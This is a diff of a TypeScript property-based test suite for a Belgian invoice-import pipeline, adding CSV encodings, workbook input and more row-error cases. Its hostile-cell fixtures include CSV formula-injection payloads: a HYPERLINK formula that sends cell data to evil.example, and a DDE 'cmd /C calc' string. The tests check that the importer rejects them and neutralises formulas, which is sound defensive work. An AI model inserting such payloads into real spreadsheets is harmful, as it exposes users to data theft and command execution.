@@ -5,7 +5,13 @@ import { parse } from "csv-parse/sync";
 import { afterAll, beforeAll, describe, expect } from "vitest";
 import type { ImportProfileInput, ImportReport } from "../../src/index.js";
 import { applyImport, dryRunImport, resultFileCsv } from "../../src/index.js";
-import { BELGIAN_HEADER, belgianCasesProfile, belgianRow, encodeCsv } from "../support/fixtures.js";
+import {
+  BELGIAN_HEADER,
+  belgianCasesProfile,
+  belgianRow,
+  encodeCsv,
+  makeXlsx,
+} from "../support/fixtures.js";
 
 /** The instant of the imports of the suite (in Brussels: 2 March 2026). */
 export const IMPORTED_AT = "2026-03-02T09:00:00Z";
@@ -74,6 +80,41 @@ export function claimsFile(
   return encodeCsv([[...BELGIAN_HEADER], ...rows], { encoding: "windows-1252" });
 }
 
+/** How a generated claims file is written: a CSV in each encoding the profiles know, or a workbook. */
+export const FORMATS = [
+  "utf-8",
+  "utf-8 with BOM",
+  "windows-1252",
+  "iso-8859-15",
+  "utf-16le with BOM",
+  "xlsx",
+] as const;
+
+/** One of {@link FORMATS}. */
+export type Format = (typeof FORMATS)[number];
+
+/**
+ * A claims file of invoices in a format, with the Belgian profile that reads it (the same profile
+ * id whatever the format: only the encoding differs, and a workbook's cells are text).
+ */
+export async function claimsSource(
+  invoices: readonly Invoice[],
+  format: Format,
+  replace: ReadonlyMap<number, string[]> = new Map(),
+): Promise<{ source: Uint8Array; profile: ImportProfileInput }> {
+  const rows = invoices.map((invoice, index) => replace.get(index) ?? cellsOf(invoice));
+  if (format === "xlsx") {
+    const source = await makeXlsx([{ name: "Facturen", rows: [[...BELGIAN_HEADER], ...rows] }]);
+    return { source, profile: belgianCasesProfile({ sheet: "Facturen" }) };
+  }
+  const [encoding, bom] = format.split(" with ") as [
+    "utf-8" | "windows-1252" | "iso-8859-15" | "utf-16le",
+    string | undefined,
+  ];
+  const source = encodeCsv([[...BELGIAN_HEADER], ...rows], { encoding, bom: bom !== undefined });
+  return { source, profile: belgianCasesProfile({ encoding }) };
+}
+
 /** Every case of the scope with its events, by case id. */
 export async function snapshot(
   store: CaseStore,
@@ -123,6 +164,23 @@ export function planned(report: ImportReport) {
   };
 }
 
+/** A bad value for a column of the Belgian file, each a row error of another kind. */
+const ROW_ERRORS: readonly (readonly [string, string])[] = [
+  ["Vervaldag", "31/02/2026"],
+  ["Factuurdatum", "2026-01-05"],
+  ["Openstaand", "12,3,4"],
+  ["Openstaand", "-5,00"],
+  ["Openstaand", "1,234"],
+  ["Ondernemingsnummer", "0403.170.702"],
+  ["Mededeling", "+++090/9337/55494+++"],
+  ["E-mail", "boekhouding at klant.be"],
+  ["Naam", ""],
+  ["Factuur", ""],
+  ["Klantnummer", "=1+1"],
+  ["Naam", "Klant\u0000BV"],
+  ["Taal", "Klingon"],
+];
+
 const HOSTILE: Record<string, string> = {
   formula: '=HYPERLINK("http://evil.example/?"&A1;"click")',
   "plus formula": "+1+cmd|' /C calc'!A0",
@@ -169,32 +227,45 @@ export function describePipelineSuite(suite: SuiteStore): void {
       });
     const runs = { numRuns: 6 };
 
-    test.prop([invoicesArbitrary], runs)(
-      "a re-import of the same file is a no-op: nothing is appended and every row is a duplicate",
-      async (invoices) => {
+    test.prop([invoicesArbitrary, fc.constantFrom(...FORMATS)], runs)(
+      "a re-import of the same file (CSV in any encoding, or a workbook) is a no-op: nothing is appended and every row is a duplicate",
+      async (invoices, format) => {
         const scope = await freshScope();
-        const file = claimsFile(invoices);
-        const first = await run(scope, file);
+        const { source: file, profile } = await claimsSource(invoices, format);
+        const first = await run(scope, file, { profile });
         expect(first.totals.errors).toBe(0);
         expect(first.totals.claimsAdded).toBe(invoices.length);
         const before = await snapshot(store, scope);
-        const again = await run(scope, file, { importedAt: "2026-03-09T10:00:00Z" });
+        const again = await run(scope, file, { profile, importedAt: "2026-03-09T10:00:00Z" });
         expect(again.applied?.appended).toBe(0);
         expect(again.rows.every((row) => row.outcome === "duplicate")).toBe(true);
         expect(await snapshot(store, scope)).toEqual(before);
       },
     );
 
-    test.prop([invoicesArbitrary, fc.array(fc.boolean(), { minLength: 10, maxLength: 10 })], runs)(
-      "any split of a file into two imports gives the same cases, debtors and claims as one import",
-      async (invoices, sides) => {
+    test.prop(
+      [
+        invoicesArbitrary,
+        fc.array(fc.boolean(), { minLength: 10, maxLength: 10 }),
+        fc.array(fc.constantFrom(...FORMATS), { minLength: 3, maxLength: 3 }),
+      ],
+      runs,
+    )(
+      "any split of a file into two imports (each part in any encoding or a workbook) gives the same cases, debtors and claims as one import",
+      async (invoices, sides, formats) => {
         const whole = await freshScope();
         const split = await freshScope();
-        await run(whole, claimsFile(invoices));
+        const [wholeFormat, firstFormat, secondFormat] = formats as [Format, Format, Format];
+        const importOf = async (scope: StoreScope, part: readonly Invoice[], format: Format) => {
+          const { source, profile } = await claimsSource(part, format);
+          const report = await run(scope, source, { profile });
+          expect(report.totals.errors).toBe(0);
+        };
+        await importOf(whole, invoices, wholeFormat);
         const first = invoices.filter((_, index) => sides[index]);
         const second = invoices.filter((_, index) => !sides[index]);
-        if (first.length > 0) await run(split, claimsFile(first));
-        if (second.length > 0) await run(split, claimsFile(second));
+        if (first.length > 0) await importOf(split, first, firstFormat);
+        if (second.length > 0) await importOf(split, second, secondFormat);
         expect(claimsOf(await snapshot(store, split))).toEqual(
           claimsOf(await snapshot(store, whole)),
         );
@@ -253,11 +324,16 @@ export function describePipelineSuite(suite: SuiteStore): void {
     );
 
     test.prop(
-      [invoicesArbitrary, fc.nat(), fc.constantFrom("skip-case" as const, "stop-batch" as const)],
+      [
+        invoicesArbitrary,
+        fc.nat(),
+        fc.constantFrom(...ROW_ERRORS),
+        fc.constantFrom("skip-case" as const, "stop-batch" as const),
+      ],
       runs,
     )(
-      "no case is ever half-written: a row error anywhere leaves its case (with stop-batch: the whole store) untouched",
-      async (invoices, at, onRowError) => {
+      "no case is ever half-written: a row error of any kind in any row leaves its case (with stop-batch: the whole store) untouched",
+      async (invoices, at, [badColumn, badValue], onRowError) => {
         const scope = await freshScope();
         const index = at % invoices.length;
         const bad = invoices[index] as Invoice;
@@ -265,7 +341,7 @@ export function describePipelineSuite(suite: SuiteStore): void {
           [
             index,
             cellsOf(bad).map((cell, column) =>
-              BELGIAN_HEADER[column] === "Vervaldag" ? "31/02/2026" : cell,
+              BELGIAN_HEADER[column] === badColumn ? badValue : cell,
             ),
           ],
         ]);
@@ -297,35 +373,51 @@ export function describePipelineSuite(suite: SuiteStore): void {
         fc.constantFrom("Klantnummer", "Naam", "Openstaand", "Vervaldag", "Factuur"),
         invoicesArbitrary,
         fc.nat(),
+        fc.constantFrom("skip-case" as const, "stop-batch" as const),
       ],
       { numRuns: 5 },
     )(
-      "a file with hostile cells (formulas, ../ paths, 10 MB cells, NUL bytes) is answered with errors, nothing is written, and the result file neutralises every formula",
-      async (kind, column, invoices, at) => {
+      "a file with hostile cells (formulas, ../ paths, 10 MB cells, NUL bytes) is answered with errors, nothing of the hostile row's case is written (nothing at all when a row was cut), and the result file neutralises every formula",
+      async (kind, column, invoices, at, onRowError) => {
         const scope = await freshScope();
         const hostile = HOSTILE[kind] as string;
         const index = at % invoices.length;
+        const bad = invoices[index] as Invoice;
         const replace = new Map<number, string[]>();
         replace.set(
           index,
-          cellsOf(invoices[index] as Invoice).map((cell, c) =>
-            BELGIAN_HEADER[c] === column ? hostile : cell,
-          ),
+          cellsOf(bad).map((cell, c) => (BELGIAN_HEADER[c] === column ? hostile : cell)),
         );
-        // A formula in the amount of the last row as well, so that every file has an error.
-        const last = invoices.length - 1;
-        replace.set(
-          last,
-          (replace.get(last) ?? cellsOf(invoices[last] as Invoice)).map((cell, c) =>
-            BELGIAN_HEADER[c] === "Openstaand" ? "=1+2" : cell,
-          ),
-        );
-        const profile = belgianCasesProfile({ onRowError: "stop-batch" });
+        const profile = belgianCasesProfile({ onRowError });
         const report = await run(scope, claimsFile(invoices, replace), { profile });
-        expect(report.stopped).toBe(true);
-        expect(report.rows.find((row) => row.row === last + 2)?.outcome).toBe("error");
-        expect(await snapshot(store, scope)).toEqual({});
-        expect(await store.findDebtors(scope, { ids: ["bakkerij:debtor:K1000"] })).toEqual([]);
+        const row = report.rows.find((candidate) => candidate.row === index + 2);
+        expect(row?.outcome).toBe("error");
+        expect(report.totals.errors).toBe(1);
+        const cases = await snapshot(store, scope);
+        // The hostile text is nowhere in the store.
+        expect(JSON.stringify(cases)).not.toContain(
+          JSON.stringify(hostile.slice(0, 64)).slice(1, -1),
+        );
+        // A 10 MB cell cuts its row at the record limit: the row's case (and any rows it hid) is
+        // unknown, so nothing of the file is written whatever onRowError says.
+        const cut = kind === "10 MB";
+        if (cut) {
+          expect(row?.messages.some((message) => message.en.startsWith("This row was cut"))).toBe(
+            true,
+          );
+        }
+        if (onRowError === "stop-batch" || cut) {
+          expect(report.stopped).toBe(true);
+          expect(cases).toEqual({});
+          expect(await store.listImportBatches(scope)).toEqual([]);
+        } else {
+          const written = Object.values(cases).map((events) => {
+            const opened = events[0];
+            return opened?.type === "case.opened" ? opened.client.reference : undefined;
+          });
+          const expected = new Set(invoices.filter((i) => i.ref !== bad.ref).map(referenceOf));
+          expect(new Set(written)).toEqual(expected);
+        }
         const cells: string[][] = parse(resultFileCsv(report), { delimiter: ";", bom: true });
         expect(cells).toHaveLength(report.rows.length + 1);
         for (const cell of cells.flat()) expect(cell).not.toMatch(/^[ ]*[=+\-@\t\r]/);
